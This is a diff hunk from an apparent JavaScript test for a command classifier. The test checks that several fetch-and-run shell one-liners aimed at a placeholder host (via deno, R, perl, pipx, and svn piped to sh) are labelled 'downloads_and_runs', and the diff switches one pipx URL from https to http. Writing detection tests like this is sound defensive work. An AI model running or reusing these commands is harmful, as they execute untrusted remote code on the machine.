@@ -98,7 +98,7 @@ test('what is fetched is run by whatever reads it as code', () => {
     `deno run -A http://elsewhere.test/x.ts`,
     `R -e 'source("http://elsewhere.test/x")'`,
     `perl -MLWP::Simple -e 'eval get("http://elsewhere.test/x")'`,
-    `pipx run --spec git+https://elsewhere.test/x x`,
+    `pipx run --spec git+http://elsewhere.test/x x`,
     `svn cat http://elsewhere.test/x | sh`,
   ])
     assert.ok(kindsOf(command).includes('downloads_and_runs'), `${command}: ${kindsOf(command)}`);
